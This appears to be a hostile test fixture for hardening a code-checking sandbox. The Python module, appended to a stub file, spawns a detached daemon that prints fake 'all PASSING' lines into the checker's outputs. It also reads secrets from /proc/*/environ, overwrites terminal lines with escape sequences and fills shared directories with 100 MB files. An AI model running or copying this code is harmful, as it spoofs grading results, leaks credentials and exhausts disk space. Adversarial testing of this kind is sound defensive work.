"""Hostile: outlive the check, leak its secrets, redraw the terminal and fill the disk
(appended to a file whose every function raises ``_Noise``).

- At import, once per process, a daemon (double fork, ``setsid``, its environment emptied so
  no marker finds it, a token in its command line) tries the terminal and the outputs of every
  process of the check above it to print a fake final line, then sleeps ten minutes holding them.
- Every function's error starts with escape sequences that would erase the line and print a
  PASSING row over it, then whatever secret it found: ``os.environ`` and every
  ``/proc/*/environ`` searched for ``PARAMS["secret_name"]``.
- ``detection_delay``, once per process, writes 100 MB files into ``/tmp`` and into every
  directory it shares with the check until a write fails or 300 MB are in each; its error
  says how much each place took.

Nothing here aims outside the check's own processes and the test's own directories, so that a
sandbox that fails hurts nothing else on the machine.
"""

PARAMS = {}  # the test writes what this file is told here

import glob as _glob
import os as _os
import sys as _sys

_TOKEN = PARAMS.get("token", "hostile-daemon")
_FAKE = PARAMS.get("fake", "16/16 functions PASSING · checkpoint PASSING · exercises: all done")
_ESCAPES = "\x1b[2K\x1b[1G\x1b[1A\x1b[2K  percentile  PASSING  24/24\x07\x9b0m"  # one line
_FILLED = _sys.__dict__.setdefault("_filled", {})  # one per process, not per load
_MB = 1024 * 1024


def _secrets():
    name, found = PARAMS.get("secret_name", "LUCYSHOP_TEST_SECRET"), []
    if name in _os.environ:
        found.append(_os.environ[name])
    for path in _glob.glob("/proc/*/environ"):
        try:
            with open(path, "rb") as handle:
                for entry in handle.read().split(b"\0"):
                    if entry.startswith(name.encode() + b"="):
                        found.append(entry.split(b"=", 1)[1].decode())
        except OSError:
            continue
    return ",".join(found) or "none"


class _Noise(RuntimeError):
    def __init__(self):
        super().__init__(f"{_ESCAPES} secret: {_secrets()} {_FILLED} env: {dict(_os.environ)}")


def _check_descriptors():
    """The standard outputs of every process above this one that belongs to the check."""
    found, pid = [], _os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                command = handle.read()
            with open(f"/proc/{pid}/status") as handle:
                parent = next(int(line.split()[1]) for line in handle if line.startswith("PPid:"))
        except (OSError, StopIteration, ValueError):
            break
        if b"lucyshop" in command:
            found += [f"/proc/{pid}/fd/1", f"/proc/{pid}/fd/2"]
        pid = parent
    return found


def _daemon_body():
    """What the daemon runs once it has no parent, no session and no environment."""
    paths = ["/dev/tty", *_check_descriptors()]
    return f"""# {_TOKEN}
import os, time
line = {_FAKE!r}.encode() + b"\\n"
held = []
for path in {paths!r}:
    try:
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        os.write(fd, line)
        held.append(fd)
    except OSError:
        pass
for fd in (1, 2):
    try:
        os.write(fd, line)
    except OSError:
        pass
time.sleep(600)
"""


def _daemon():
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _os.execve(_sys.executable, [_sys.executable, "-c", _daemon_body(), _TOKEN], {})
        _os._exit(0)


def _shared():
    """The directories this sandbox shares with the check for writing (only those under the
    test's own ``PARAMS["tmp"]``: were the sandbox to fail, nothing else is filled)."""
    with open("/proc/self/mountinfo") as mounts:
        fields = [line.split() for line in mounts]
    points = [f[4] for f in fields if "rw" in f[5].split(",")]
    return [p for p in points if p.startswith(PARAMS["tmp"]) and _os.path.isdir(p)]


def _fill(directory):
    written, block = 0, b"\0" * _MB
    for number in range(3):
        try:
            with open(_os.path.join(directory, f"fill-{_os.getpid()}-{number}"), "wb") as handle:
                for _ in range(100):
                    handle.write(block)
                    written += _MB
        except OSError as error:
            return f"{written // _MB}MB({type(error).__name__})"
    return f"{written // _MB}MB"


def _fill_once():
    if not _FILLED:
        private = _os.path.join("/tmp", _TOKEN)  # the test removes it, should it be the host's
        _os.makedirs(private, exist_ok=True)
        for place in [private, *_shared()]:
            _FILLED[place] = _fill(place)


def detection_delay(lease, turn, scan):  # replaces the stub's: the disk fill, then the noise
    _fill_once()
    raise _Noise()


if not getattr(_sys, "_noisy", False):
    _sys._noisy = True
    print(f"{_secrets()} {_ESCAPES}\n{_FAKE}", flush=True)
    print(f"{_secrets()} {_ESCAPES}\n{_FAKE}", file=_sys.stderr, flush=True)
    _daemon()
